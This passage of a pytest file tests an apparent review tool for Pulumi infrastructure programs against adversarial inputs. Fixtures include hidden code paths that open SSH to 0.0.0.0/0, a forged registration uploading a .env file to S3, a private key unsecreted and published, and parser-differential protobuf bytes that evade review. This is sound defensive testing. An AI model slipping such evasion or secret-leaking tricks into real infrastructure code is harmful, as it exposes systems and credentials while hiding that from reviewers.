    "has failed after it had registered all resources": """
        import atexit, os, time
        def end():
            time.sleep(1)  # The engine has ended meanwhile.
            os._exit(3)
        atexit.register(end)
    """,
}
"""Code by the message of its error, which is not one of the engine."""


@pytest.mark.parametrize("message", IGNORED_BY_THE_ENGINE)
def test_an_error_that_the_engine_ignores_or_does_not_see_blocks(
    message: str, trees: tuple[Path, Path], tmp_path: Path
) -> None:
    (trees[1] / "__main__.py").write_text(CLOSED + textwrap.dedent(IGNORED_BY_THE_ENGINE[message]))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = [item for item in report["findings"] if item["blocks"]]
    # The program may also fail by itself when its connection ends.
    assert {item["policy"] for item in blocking} == {"does-not-evaluate"}
    assert any(message in item["message"] for item in blocking)


SECRET = """
import pulumi
token = pulumi.Config().require_secret("token")
"""

WITHOUT_THE_SECRET = """
import pulumi, tempfile
cidr = "10.0.0.0/8"
if not pulumi.Config().get_secret("token"):
    cidr = "0.0.0.0/0"
    with tempfile.TemporaryFile() as file:
        file.write(bytes(100 * 2**20))  # more than the isolation has
text = pulumi.Config().get("token") or ""
aws.sqs.Queue("queue", tags={"token": text, "reversed": text[::-1], "first": text[:9]})
"""


def test_a_failure_that_only_the_isolation_causes_does_not_prove_that_a_secret_is_needed(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    trusted, stranger = trees
    (trusted / "schemas").mkdir()
    schema = {"properties": {"config": {"properties": {"attack:token": {"writeOnly": True}}}}}
    (trusted / "schemas" / "stack-file.schema.json").write_text(json.dumps(schema))
    (trusted / "__main__.py").write_text(CLOSED + SECRET)
    _git(trusted, "add", "-A")
    _git(trusted, "commit", "-q", "-m", "a secret")
    _git(stranger, "pull", "-q")
    program = PROGRAM.replace("aws\n", f"aws{WITHOUT_THE_SECRET}", 1).replace('"CIDR"', "cidr")
    (stranger / "__main__.py").write_text(program)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = {item["name"]: item for item in report["findings"] if item["blocks"]}
    assert blocking.keys() == {"setting attack:token", "queue"}
    assert {item["policy"] for item in blocking.values()} == {"value-unknown"}
    assert "No space left on device" in blocking["setting attack:token"]["message"]
    # The whole secret is masked, and what is computed from it looks like a literal.
    computed = [item["message"].rpartition(": ")[2] for item in report["findings"] if item["name"] == "queue"]
    assert {"tags.first", "tags.reversed"} <= {*computed}


LOCAL_CHART = """
import pulumi
import pulumi_kubernetes as kubernetes
cluster = pulumi.ResourceOptions(provider=kubernetes.Provider("cluster", kubeconfig="{}"))
kubernetes.helm.v3.Release("it", name="it", chart="charts/it", version="1.0.0", opts=cluster)
"""


def test_a_changed_template_of_a_local_chart_blocks(trees: tuple[Path, Path], tmp_path: Path) -> None:
    for tree, kind in zip(trees, ("ConfigMap", "ClusterRoleBinding"), strict=True):
        (tree / "__main__.py").write_text(CLOSED + LOCAL_CHART)
        (tree / "charts" / "it" / "templates").mkdir(parents=True)
        (tree / "charts" / "it" / "Chart.yaml").write_text("apiVersion: v2\nname: it\nversion: 1.0.0\n")
        (tree / "charts" / "it" / "templates" / "it.yaml").write_text(f"kind: {kind}\n")
        _git(tree, "add", "-A")
    _git(trees[0], "commit", "-q", "-m", "a local chart")
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    assert report["changes"] == []
    assert [(item["policy"], item["name"]) for item in report["findings"] if item["blocks"]] == [
        ("guard-weakened", "charts/it/templates/it.yaml"),
        ("value-unknown", "it"),
    ]


SECRETS = """
import pulumi
import pulumi_aws as aws
import pulumi_tls as tls
key = tls.PrivateKey("key", algorithm="ECDSA", ecdsa_curve="P256")
def keep(value):
    options = pulumi.ResourceOptions(ignore_changes=["value"])
    aws.ssm.Parameter("kept", name="kept", type="SecureString", value=value, opts=options)
"""

GUARD = f"""{SECRETS}
aws.ebs.EncryptionByDefault("volumes", enabled=True)
keep(key.private_key_pem)
"""

HIDDEN_PLACE = f"""{SECRETS}
keep(pulumi.Output.secret("known-to-me"))
def publish(text):
    aws.ssm.Parameter("published", name="published", type="String", insecure_value=text)
key.private_key_pem.apply(publish)
pulumi.export("pem", pulumi.Output.unsecret(key.private_key_pem))
local = aws.Provider("local", region=pulumi.Output.secret("ap-northeast-1"))
aws.ebs.EncryptionByDefault("disks", enabled=True, opts=pulumi.ResourceOptions(provider=local))
"""
"""The same object, through a provider with the region of the stack, and secrets of all kinds."""


HIDDEN_CODE = """\
import pulumi_aws as aws

def firewall(name, block):
    if not block:
        raise ValueError(f"{name} has no block")
    rule = {"protocol": "tcp", "from_port": 22, "to_port": 22, "cidr_blocks": [block], "description": "SSH"}
    return aws.ec2.SecurityGroup(name, description="Entry", ingress=[rule])

old = firewall("firewall", "10.0.0.0/8")
old.arn.apply(lambda arn: firewall("a", "0.0.0.0/0") if "." in arn else None)
zones = aws.get_availability_zones(state="available").names
if len(zones) > 9:
    # More than any region has.
    for zone in zones:
        firewall(zone, "0.0.0.0/0")
name = "new"
firewall(name, "0.0.0.0/0" if zones[0].endswith(".") else "10.0.0.0/8")
"""


def test_changed_code_that_did_not_run_is_named(trees: tuple[Path, Path], tmp_path: Path) -> None:
    (trees[0] / "__main__.py").write_text(f'{CLOSED}aws.get_availability_zones(state="available")\n')
    _git(trees[0], "commit", "-qam", "a look-up")
    (trees[1] / "__main__.py").write_text(HIDDEN_CODE)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    assert [change["name"] for change in report["changes"]] == ["new"]
    findings = [finding for finding in report["findings"] if finding["policy"] == "code-not-run"]
    assert [finding["message"] for finding in findings] == [
        f"__main__.py:{text}"
        for text in (
            '10 did not run in this review: firewall("a", "0.0.0.0/0")',
            "14-15 did not run in this review: for zone in zones:",
            '17 did not run in this review: "0.0.0.0/0"',
        )
    ]
    assert report["verdict"] == "Nothing blocks: 1 created; changed code did not run (__main__.py)."


def test_a_secret_hides_no_place_and_no_literal_and_is_masked_where_it_is_not_marked(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    """The engine sends a secret setting to the provider without the mark, and the SDK a text in an apply."""
    for tree, program in zip(trees, (GUARD, HIDDEN_PLACE), strict=True):
        (tree / "__main__.py").write_text(program)
    _git(trees[0], "commit", "-qam", "a guard")
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = {(item["policy"], item["name"]) for item in report["findings"] if item["blocks"]}
    values = {("value-unknown", name) for name in ("local", "kept", "output pem")}
    assert blocking == {("object-shared", "disks"), ("ssm-secret-in-parameter", "published"), *values}
    shown = {
        (change["name"], item["path"]): item["after"]
        for change in report["changes"]
        for item in change["properties"]
    }
    assert shown["local", "region"] == "[secret]"
    assert shown["kept", "option ignoreChanges (value of a later replacement)"] == "[secret]"
    published = shown["published", "insecureValue"], shown["attack-dev", "output pem"]
    assert published == ("[secret] (not secret)",) * 2
    assert not [file for file in (tmp_path / "out").iterdir() if "PRIVATE KEY" in file.read_text()]


CHART = """
import pulumi_kubernetes as kubernetes
kubernetes.helm.v3.Release("agent", name="agent", chart="datadog", version="3.100.0",
    repository_opts=kubernetes.helm.v3.RepositoryOptsArgs(repo="https://helm.datadoghq.com"),
    values={"agents": {"podSecurity": {"x": 1}}, "clusterAgent": {"replicas": 2}})
kubernetes.apiextensions.CustomResource("gate", api_version="example.com/v1", kind="Gate",
    metadata={"name": "gate"}, spec={"origins": ["null", "a"]})
"""


def test_a_null_in_place_of_a_value_is_shown(trees: tuple[Path, Path], tmp_path: Path) -> None:
    """Helm deletes a chart's default if the value is null."""
    for tree, change in zip(trees, (str, _with_nulls), strict=True):
        (tree / "__main__.py").write_text(CLOSED + change(CHART))
    _git(trees[0], "commit", "-qam", "a chart")
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    assert {
        item["path"]: (item["before"], item["after"])
        for change in report["changes"]
        for item in change["properties"]
    } == {
        "values.agents.podSecurity": ('{"x": 1}', "null"),
        "values.clusterAgent.containers": (None, '{"agent": {"securityContext": null}}'),
        "spec.origins[0]": ('"null"', "null"),
    }


def _with_nulls(program: str) -> str:
    null = program.replace('{"x": 1}', "None").replace('"null"', "None")
    return null.replace('"replicas": 2', '"replicas": 2, "containers": {"agent": {"securityContext": None}}')


IGNORED = """
import base64, contextlib, os, pulumi
from google.protobuf import struct_pb2
from pulumi.runtime import settings
from pulumi.runtime.proto import callback_pb2, resource_pb2
monitor = settings.get_monitor()
SIGNATURE, ASSET = "4dabf18193072939515e22adb298388d", "c44067f5952c0a294b673a41bacd8c17"
def set_outputs(urn):
    with contextlib.suppress(Exception):
        monitor.RegisterResourceOutputs(
            resource_pb2.RegisterResourceOutputsRequest(urn=urn, outputs=struct_pb2.Struct())
        )
with contextlib.suppress(Exception):
    monitor.RegisterStackTransform(callback_pb2.Callback(token="it", target="unix:it"))
with contextlib.suppress(Exception):
    kind = {SIGNATURE: "803fd3297a5875dc03ca845dda5d2a98", "value": base64.b64encode(ASSET.encode()).decode()}
    source = {SIGNATURE: kind, "path": os.getcwd() + "/.env", "hash": "a" * 64}
    properties = struct_pb2.Struct()
    properties.update({"bucket": "files", "key": "a", "source": source})
    monitor.RegisterResource(resource_pb2.RegisterResourceRequest(
        type="aws:s3/bucketObject:BucketObject", name="forged", custom=True, object=properties
    ))
aws.ec2.Vpc("it", cidr_block="10.0.0.0/16").urn.apply(set_outputs)
"""
"""Calls that the review refuses, and whose failure the program ignores."""

LOOKUP = """
import contextlib
cidr = "10.0.0.0/8"
with contextlib.suppress(Exception):
    aws.sagemaker.get_prebuilt_ecr_image(repository_name="kmeans")
    cidr = "0.0.0.0/0"
"""


def test_refusals_and_failed_look_ups_block_if_the_program_ignores_them(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    main = trees[1] / "__main__.py"
    main.write_text(CLOSED + IGNORED)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    [message] = [item["message"] for item in report["findings"] if item["policy"] == "does-not-evaluate"]
    assert "transforms" in message and "sets its outputs" in message and "asset with a hash" in message
    main.write_text(PROGRAM.replace("aws\n", f"aws{LOOKUP}", 1).replace('"CIDR"', "cidr"))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    [finding] = [item for item in report["findings"] if item["blocks"]]
    assert finding["policy"] == "value-unknown" and "getPrebuiltEcrImage" in finding["name"]


OTHER_BYTES = {
    # Go's parser rejects what Python's cuts off. The engine would not know the resource.
    "a number with more bytes or bits than it needs": b"\x20\x81" + b"\x80" * 8 + b"\x02",
    # Python's parser does not see the property `a`, which has the text `it`. The engine does.
    "an unknown field (8, wire type 2)": b"\x2a\x0d\x0a\x0b\x0a\x01a\x12\x04\x1a\x02it\x42\x00",
}
"""Bytes after those of a request, by the message of their refusal."""

REGISTER = """
import contextlib, pulumi
from pulumi.runtime import settings
from pulumi.runtime.proto import resource_pb2
register = settings.get_monitor().RegisterResource
serialize = register._request_serializer
register._request_serializer = lambda request: serialize(request) + BYTES
with contextlib.suppress(Exception):
    register(resource_pb2.RegisterResourceRequest(type="aws:ec2/vpc:Vpc", name="it"))
register._request_serializer = serialize
"""


@pytest.mark.parametrize("message", OTHER_BYTES)
def test_bytes_that_the_engine_reads_differently_block(
    message: str, trees: tuple[Path, Path], tmp_path: Path
) -> None:
    (trees[1] / "__main__.py").write_text(CLOSED + REGISTER.replace("BYTES", repr(OTHER_BYTES[message])))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    [finding] = [item for item in report["findings"] if item["blocks"]]
    assert finding["policy"] == "does-not-evaluate"
    assert f"the bytes of this call have {message}" in finding["message"]
